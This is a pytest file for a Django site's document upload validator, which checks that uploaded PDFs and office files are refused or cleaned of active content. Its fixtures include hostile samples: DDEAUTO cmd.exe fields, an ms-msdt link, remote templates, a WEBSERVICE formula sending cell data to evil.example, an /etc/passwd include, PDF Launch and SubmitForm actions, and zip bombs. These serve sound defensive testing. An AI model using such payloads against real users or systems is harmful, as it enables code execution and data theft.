# ruff: noqa: E501 - a case is a line
"""Evidence is taken by what it is, refused in words, stored under a random name, and served to be saved."""

import io
import random

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.utils.translation import override
from pikepdf import Array, Dictionary, Encryption, Name, Pdf, String

from cities.models import Document
from learningcities.media.documents import DOUBTS, KINDS, SENTENCES, DocumentFormField
from learningcities.operations.chores import CHORES
from tests import factories
from tests.conftest import thorough
from tests.document_files import (
    ODF,
    OFFICE,
    by_hand,
    carrying,
    field,
    in_filters,
    office,
    ole,
    open_document,
    opening,
    pdf,
    relationships,
    scan,
    signed,
    with_link,
    with_object,
    with_root,
    zipped,
)
from tests.forms import edit

PDF = factories.PDF


@pytest.fixture(autouse=True)
def _english(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    with override("en"):
        yield


def locked():
    """The archive with the mark of an encrypted entry."""
    content = bytearray(office())
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


TAKEN = {
    "pdf": PDF,
    **{kind: office(kind) for kind in ("docx", "xlsx", "pptx")},
    **{kind: open_document(kind) for kind in ("odt", "ods", "odp")},
}


@pytest.mark.parametrize("kind", TAKEN)
@pytest.mark.parametrize("name", ["report.exe", "page.html", "none", "é" * 150 + ".pdf"])
def test_a_document_is_known_by_its_content_whatever_its_name(kind, name):
    clean = DocumentFormField().clean(SimpleUploadedFile(name, TAKEN[kind]))
    stem, _dot, ending = clean.name.partition(".")
    assert (len(stem), ending) == (32, kind)


MT = "http://schemas.microsoft.com/office/2006/relationships"
REFUSED = {
    "html": (b"<!doctype html><script>alert(1)</script>", "unknown"),
    "a page with its pictures": (b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "unknown"),
    "svg": (b"<svg/>", "unknown"),
    "a program": (b"MZ\x90\0", "unknown"),
    "a photo": (b"\xff\xd8\xff\xe0", "unknown"),
    "an old or protected office file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 64, "old"),
    # PDF
    "a pdf with a page before it": (b"<html>" + PDF, "unknown"),
    "a pdf that breaks off": (PDF[:30], "damaged"),
    "a pdf without pages": (PDF.replace(b"/Kids[3 0 R]", b"/Kids[]").replace(b"/Count 1", b"/Count 0"), "damaged"),
    "a locked pdf": (pdf(encryption=Encryption(owner="a", user="b")), "locked"),
    "a pdf with rights kept back": (pdf(encryption=Encryption(owner="a", user="")), "locked"),
    "a pdf that is a folder": (with_root(Collection=Dictionary(View=Name.D)), "portfolio"),
    "a pdf that is a form of XML": (with_root(AcroForm=Dictionary(XFA=String("x")), NeedsRendering=True), "form"),
    "a signed pdf with a script": (signed(OpenAction=Dictionary(S=Name.JavaScript, JS=String("x"))), "signed"),
    "a signed pdf with an archive behind it": (signed() + zipped({"a": "b"}), "signed"),
    "a signed pdf with a page behind it": (signed() + b"<html>%%EOF", "signed"),
    "a pdf whose signature is none": (signed().replace(b"/ByteRange [", b"/ByteRange [9"), "signed"),
    # Archives
    "any other archive": (zipped({"a.txt": "b"}), "unknown"),
    "an archive with something before it": (b"MZ" + office(), "unknown"),
    "a page before an archive": (b"<html>" + office(), "unknown"),
    "a page inside of an archive, before its entries": (b"PK\x03\x04<html>" + office(), "damaged"),
    "a page behind an archive": (office() + b"<html><script>alert(1)</script>", "damaged"),
    "an archive with a comment": (zipped({"a": "b"}, comment=b"<script>"), "damaged"),
    "two archives": (office() + office(), "damaged"),
    "a broken archive": (office()[:120], "damaged"),
    "a locked archive": (locked(), "locked"),
    "a bomb": (office(**{"word/x.xml": b"\0" * 2**23}), "too_much"),
    "a way out of the archive": (office(**{"../a.xml": "x"}), "damaged"),
    "one entry twice": (office(**{"WORD/document.xml": "<a/>"}), "damaged"),
    "entities": (office(**{"word/a.xml": "<!DOCTYPE a [<!ENTITY a 'b'>]><a>&a;</a>"}), "damaged"),
    # DOCX, XLSX, PPTX
    "no main part": (zipped({"[Content_Types].xml": "<Types/>"}), "unknown"),
    "macros": (office(**{"word/vbaProject.bin": "x"}), "embedded"),
    "macros by their type": (
        office(types={"word/a.bin": "application/vnd.ms-office.vbaProject"}, **{"word/a.bin": "x"}),
        "macros",
    ),
    "macros under another name": (
        office(related=[(f"{MT}/vbaProject", "media/image1.png", None)], **{"word/media/image1.png": "x"}),
        "macros",
    ),
    "a document for macros": (
        office(types={"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
        "macros",
    ),
    "a sheet of macros": (
        office("xlsx", types={"xl/a.xml": "application/vnd.ms-excel.macrosheet+xml"}, **{"xl/a.xml": "<a/>"}),
        "macros",
    ),
    "a sheet of macros by its relationship": (
        office("xlsx", related=[(f"{MT}/xlMacrosheet", "a.xml", None)]),
        "macros",
    ),
    "a formula that runs at once": (
        office("xlsx", body='<s:definedName name="_xlnm.Auto_Open">A1</s:definedName>'),
        "macros",
    ),
    "buttons of a program": (office(related=[(f"{MT}/ui/extensibility", "a.xml", None)]), "macros"),
    "a control": (office(related=[("control", "activeX/activeX1.xml", None)]), "macros"),
    "a template elsewhere": (
        office(related=[("attachedTemplate", "https://evil.example/a.dotm", "External")]),
        "leads",
    ),
    "a picture elsewhere": (office(related=[("image", "https://evil.example/a.png", "External")]), "leads"),
    "a picture elsewhere that doesn't say so": (office(related=[("image", "file://evil/a.png", None)]), "leads"),
    "an object elsewhere": (office(related=[("oleObject", "mhtml:https://evil.example/a.html", "External")]), "leads"),
    "a workbook elsewhere": (office("xlsx", related=[("externalLink", "a.xml", None)]), "leads"),
    "a database": (office("xlsx", related=[("connections", "connections.xml", None)]), "leads"),
    "a page in a document": (office(related=[("aFChunk", "a.mht", None)]), "leads"),
    "a page beside a document": (office(**{"word/a.mht": "MIME-Version: 1.0"}), "macros"),
    "a page in an archive": (office(**{"word/a.html": "x"}), "macros"),
    "a link that starts a program": (office(related=[("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")]), "leads"),
    "a link that is a script": (office(related=[("hyperlink", "javascript:alert(1)", "External")]), "leads"),
    "data of another program": (office(body=field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), "leads"),
    "the same in pieces": (office(body=field(" DD", "EAUTO c:\\\\cmd.exe")), "leads"),
    "the same in one piece": (office(body='<w:fldSimple w:instr=" DDE cmd.exe"/>'), "leads"),
    "the same worked out": (office(body=field(["QUOTE 68 68 69"], " cmd.exe")), "leads"),
    "the same in a sheet": (office("xlsx", body="<s:f>cmd|'/C calc'!A0</s:f>"), "leads"),
    "a formula that asks the web": (
        office("xlsx", body='<s:f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</s:f>'),
        "leads",
    ),
    "a picture that is fetched": (office(body=field(' INCLUDEPICTURE "https://evil.example/a.png" \\d')), "leads"),
    "a type said twice": (
        office(
            types={
                "word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml",
                "WORD/document.xml": f"{KINDS['docx']}.main+xml",
            }
        ),
        "damaged",
    ),
    "a page among the pictures": (open_document(**{"Pictures/a.htm": "x"}), "macros"),
    "a button that starts a program": (office("pptx", body='<a:hlinkClick action="ppaction://program"/>'), "macros"),
    "an embedded program": (with_object(ole("0003000C-0000-0000-C000-000000000046", Package=b"MZ")), "embedded"),
    "a program that calls itself an equation": (with_object(ole(Equation_Native=b"x", Package=b"MZ")), "embedded"),
    "an equation that attacks": (
        with_object(ole(Equation_Native=b"\x1c\0\x08\1\1" + b"cmd.exe /c calc " * 4)),
        "embedded",
    ),
    "an object that is none": (with_object(b"MZ\x90\0"), "embedded"),
    "a program under the name of a picture": (office(**{"word/media/image1.png": b"MZ\x90\0"}), "embedded"),
    "macros in a workbook behind a chart": (
        office(**{"word/embeddings/a.xlsx": office("xlsx", **{"xl/vbaProject.bin": "x"})}),
        "embedded",
    ),
    # ODT, ODS, ODP
    "a locked open document": (
        open_document(manifest="<m><a xmlns='urn:x'/><e:encryption-data xmlns:e='urn:e'/></m>"),
        "locked",
    ),
    "macros of an open document": (open_document(**{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "an open document that listens": (
        open_document(body='<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
        "macros",
    ),
    "an open document with a picture elsewhere": (
        open_document(body='<draw:image xlink:href="https://evil.example/a"/>'),
        "leads",
    ),
    "an open document that includes another": (
        open_document(body='<text:section-source xlink:href="/etc/passwd"/>'),
        "leads",
    ),
    "an open document with data of another program": (open_document(body="<office:dde-source/>"), "macros"),
    "a formula with data of another program": (
        open_document("ods", body='<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>'),
        "leads",
    ),
}


@pytest.mark.parametrize("case", REFUSED)
def test_anything_else_is_refused_in_words(case):
    content, code = REFUSED[case]
    with pytest.raises(ValidationError) as error:
        DocumentFormField().clean(SimpleUploadedFile("report.pdf", content))
    assert error.value.code == code
    assert error.value.messages == [SENTENCES[code]]


SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
#: PDF from which something is taken, with what must not be in it any more.
MENDED = {
    "a script at the opening": (opening(**SCRIPT), b"JavaScript"),
    "a script by an escaped name": (
        pdf().replace(b"/Catalog", b"/Catalog/OpenAction<</S/J#61vaScript/J#53(x)>>"),
        b"(x)",
    ),
    "a script in an object packed by a chain of filters": (
        by_hand({10: in_filters(b"JavaScript")}, {9: (10, 0)}),
        b"JavaScript",
    ),
    "a script in the list of scripts": (
        with_root(
            RelationLookup=Dictionary(JavaScript=Dictionary(RelationLookup=Array([String("a"), Dictionary(**SCRIPT)])))
        ),
        b"JavaScript",
    ),
    "a script when a page opens": (
        pdf(lambda document: document.pages[0].obj.update({"/AA": Dictionary(O=Dictionary(**SCRIPT))})),
        b"JavaScript",
    ),
    "a script behind a link": (with_link(S=Name.GoTo, D=String("a"), Next=Dictionary(**SCRIPT)), b"JavaScript"),
    "a program": (with_link(S=Name.Launch, F=String("cmd.exe")), b"Launch"),
    "a form that is sent": (with_link(S=Name.SubmitForm, F=String("https://evil.example")), b"SubmitForm"),
    "data that is fetched": (with_link(S=Name.ImportData, F=String("a")), b"ImportData"),
    "a page of another file": (with_link(S=Name.GoToR, F=String("//evil/a.pdf"), D=String("a")), b"GoToR"),
    "a page of a file that it carries": (with_link(S=Name.GoToE, D=String("a")), b"GoToE"),
    "an address that is opened at once": (opening(S=Name.URI, URI=String("https://evil.example")), b"OpenAction"),
    "a script as an address": (with_link(S=Name.URI, URI=String("javascript:alert(1)")), b"javascript"),
    "a file that it carries": (carrying("list"), b"EmbeddedFile"),
    "a file beside a page": (carrying("page"), b"EmbeddedFile"),
    "a form of XML beside an ordinary one": (
        with_root(AcroForm=Dictionary(XFA=String("<x/>"), Fields=Array([1]))),
        b"XFA",
    ),
    "a film": (
        pdf(lambda document: document.pages[0].obj.update({"/Annots": Array([Dictionary(Subtype=Name.RichMedia)])})),
        b"RichMedia",
    ),
    "a page in the head of a pdf": (PDF.replace(b"1 0 obj", b"<script>x</script>\n1 0 obj"), b"script"),
    "an archive behind a pdf": (PDF + zipped({"a": "b"}) + b"%%EOF", b"PK"),
}


@pytest.mark.parametrize("case", MENDED)
def test_what_acts_in_a_pdf_or_is_carried_by_it_is_taken_out(case):
    content, words = MENDED[case]
    clean = DocumentFormField().clean(SimpleUploadedFile("report.pdf", content)).read()
    assert words not in clean
    with Pdf.open(io.BytesIO(clean)) as document:
        assert len(document.pages) == 1
    again = DocumentFormField().clean(SimpleUploadedFile("report.pdf", clean))
    assert again.read() == clean


#: Links stay, whatever they say, and so do pictures whose bytes look like anything.
KEPT = {
    address: (with_link(S=Name.URI, URI=String(address)), address.encode())
    for address in ("https://ville.example/Launch", "http://ville.example/JavaScript", "mailto:a@ville.example")
}
KEPT |= {
    "a link about protection": (
        with_link(S=Name.URI, URI=String("https://a.example/Encrypt?/EmbeddedFiles")),
        b"/Encrypt?",
    ),
    "a link inside": (with_link(S=Name.GoTo, D=String("chapter 2")), b"chapter 2"),
    "the page it opens at": (opening(S=Name.GoTo, D=String("chapter 1")), b"chapter 1"),
    "the next page": (with_link(S=Name.Named, N=Name.NextPage), b"/NextPage"),
    "fonts of odd names": (
        pdf(
            lambda document: document.pages[0].obj.update(
                {
                    "/Resources": Dictionary(
                        Font=Dictionary(AA=Dictionary(Type=Name.Font), JS=Dictionary(Type=Name.Font))
                    )
                }
            )
        ),
        b"/AA",
    ),
}


@pytest.mark.parametrize("case", KEPT)
def test_what_a_reader_expects_of_a_pdf_stays(case):
    content, words = KEPT[case]
    assert words in DocumentFormField().clean(SimpleUploadedFile("report.pdf", content)).read()


PATTERNS = b"/JS(x) /JavaScript /Launch /Encrypt /EmbeddedFile /XFA /ObjStm stream\n <script> PK\x05\x06 endobj "


@pytest.mark.parametrize("size", [2**16, 2**20])
def test_a_scan_is_taken_whatever_its_pixels_say(size):
    pixels = random.Random(size).randbytes(size) + PATTERNS * 50
    clean = DocumentFormField().clean(SimpleUploadedFile("scan.pdf", scan(pixels))).read()
    with Pdf.open(io.BytesIO(clean)) as document:
        assert document.pages[0].Resources.XObject.A.read_bytes() == pixels


def test_a_clean_signed_pdf_stays_byte_for_byte():
    for content in (signed(), signed(OpenAction=Array([0, Name.Fit])), signed() + b"\n"):
        assert DocumentFormField().clean(SimpleUploadedFile("a.pdf", content)).read() == content


EQUATION_TEXT = b"\x1c\0\0\0\2\0" + b"\x03\x01\x01\x03\x0a\x0a\x01\x12\x83x\0\x03\x0f\0" * 9
HONEST = {
    "an old equation": with_object(ole(**{"\1CompObj": b"x", "Equation_Native": EQUATION_TEXT})),
    "links": office(
        related=[
            ("hyperlink", target, "External")
            for target in (
                "https://a.example/Launch",
                "mailto:a@b.example",
                "annexe.docx",
                "C:\\a.docx",
                "\\\\server\\a.docx",
            )
        ]
    ),
    "a picture": office(related=[("image", "media/image1.png", None)], **{"word/media/image1.png": b"\x89PNG\r\n"}),
    "the numbers behind a chart": office(
        related=[("chart", "charts/chart1.xml", None)],
        types={"word/charts/chart1.xml": f"{OFFICE}.drawingml.chart+xml"},
        **{
            "word/charts/chart1.xml": "<c/>",
            "word/charts/_rels/chart1.xml.rels": relationships(("package", "../embeddings/a.xlsx", None)),
            "word/embeddings/a.xlsx": office("xlsx"),
        },
    ),
    "settings of a printer": office(
        "xlsx",
        types={"xl/printerSettings1.bin": f"{OFFICE}.spreadsheetml.printerSettings"},
        **{"xl/printerSettings1.bin": b"\0" * 99},
    ),
    "a picture from the web that is kept": office(
        body=field(' INCLUDEPICTURE "https://a.example/b.png" \\* MERGEFORMATINET')
    ),
    "fields of a text": office(
        body=field(" TOC \\o")
        + field(" IF ", [" MERGEFIELD a "], ' = "DDE"')
        + field(' HYPERLINK "https://a.example/DDE"')
    ),
    "formulas": office("xlsx", body="<s:f>IF(A1=\"a|b!\",'x|y'!A1,2)</s:f>"),
    "an open document with a link": open_document(body='<text:a xlink:href="https://a.example/macro"/>'),
    "an open document from a template": open_document(
        **{
            "meta.xml": f'<meta:template xmlns:meta="{ODF}:meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="/C:/a.ott"/>'
        }
    ),
    "an open document as LibreOffice writes it": open_document(
        **{
            "Configurations2/accelerator/current.xml": "",
            "Thumbnails/thumbnail.png": b"\x89PNG",
            "manifest.rdf": "<a/>",
            "Pictures/1.png": b"\x89PNG",
            "Object 1/content.xml": "<a/>",
            "ObjectReplacements/Object 1": b"VCLMTF",
        }
    ),
}


@pytest.mark.parametrize("case", HONEST)
def test_an_honest_office_document_is_taken_as_it_is(case):
    assert DocumentFormField().clean(SimpleUploadedFile("a", HONEST[case])).read() == HONEST[case]


def test_a_document_of_more_than_20_mb_is_refused_unread():
    file = SimpleUploadedFile("report.pdf", PDF)
    file.size = 21 * 2**20
    with pytest.raises(ValidationError, match="20 MB"):
        DocumentFormField().clean(file)


@pytest.mark.django_db
def test_a_document_is_only_ever_saved_under_its_title(client):
    document = factories.make_document(title_fr="Évaluation 2024")
    response = client.get(document.get_absolute_url())
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%C3%89valuation%202024.pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response).startswith(b"%PDF-")


@thorough
@pytest.mark.django_db
def test_a_document_is_on_the_pages_it_belongs_to_as_long_as_it_is_public(client):
    city = factories.make_city(slug="fes")
    document = factories.make_document(city, title_fr="Enquête", public=False)
    factories.make_figure(city, document=document)
    initiative = factories.make_initiative(city, slug="library", public=False)
    initiative.documents.add(document)
    initiative.figures.create(label_fr="Lecteurs", value=3, year=2024, source_fr="Ville", document=document)
    pages = ["/fr/villes/fes/", "/fr/initiatives/library/"]
    assert "Enquête" not in client.get(pages[0]).content.decode()
    initiative.publish()
    for page, times in zip(pages, [1, 2], strict=True):
        assert client.get(page).content.decode().count(f'href="{document.get_absolute_url()}"') == times, page
    assert "(<bdi>PDF</bdi>, <bdi>" in client.get(pages[1]).content.decode()
    answer = client.get("/api/v1/initiatives/library/").json()
    assert answer["documents"][0] == answer["figures"][0]["document"]
    assert answer["documents"][0]["format"] == "pdf"
    assert "Enquête" in client.get("/fr/initiatives/?format=csv").getvalue().decode()
    document.refresh_from_db()
    document.withdraw()
    for page in pages:
        assert "Enquête" not in client.get(page).content.decode()
    assert client.get("/api/v1/initiatives/library/").json()["figures"][0]["document"] is None
    assert client.get(document.get_absolute_url()).status_code == 410


@pytest.fixture
def acting(city):
    """A document with a script, as an earlier release has stored it."""
    document = factories.make_document(city, title_fr="Ancien")
    with default_storage.open(document.file.name, "wb") as file:
        file.write(opening(**SCRIPT))
    return document


@thorough
def test_what_the_library_holds_is_looked_at_by_a_chore_and_listed_for_the_staff(
    acting, city, as_coordinator, as_editor
):
    clean = factories.make_document(city, title_fr="Propre")
    chore = next(chore for chore in CHORES if "looked at" in chore.name)
    assert set(chore.find()) == {acting, clean}
    assert chore.do(chore.find()) == 2
    assert not chore.find()
    assert list(Document.objects.doubtful()) == [acting]
    for client in (as_coordinator, as_editor):
        (issue,) = client.get("/admin/care/", {"kind": "doubtful"}).context["page"].object_list
        assert issue.row == acting
        assert issue.description == DOUBTS["acting"]
        assert "kind=doubtful" in client.get("/admin/").content.decode()
    acting.move_to_bin()
    assert not Document.objects.doubtful()


def test_a_file_that_takes_the_place_of_a_doubtful_one_is_looked_at_anew(acting, as_coordinator):
    acting.inspect()
    acting.refresh_from_db()
    assert acting.doubt == "acting"
    edit(as_coordinator, acting, {"file": SimpleUploadedFile("a.pdf", PDF)})
    acting = Document.objects.get()
    assert (acting.doubt, acting.inspected_by) == ("", 0)
    acting.inspect()
    assert not Document.objects.doubtful()


def test_an_operator_has_all_documents_looked_at_and_reads_which_would_not_be_taken(acting, capsys):
    call_command("inspect_documents")
    told = capsys.readouterr().out
    assert "Ancien" in told
    assert "takes that out" in told
    assert acting in Document.objects.doubtful()


def test_a_document_whose_file_is_missing_keeps_no_other_back(acting, city):
    factories.make_document(city).file.storage.delete(acting.file.name)
    call_command("inspect_documents")
    assert list(Document.objects.uninspected()) == [acting]
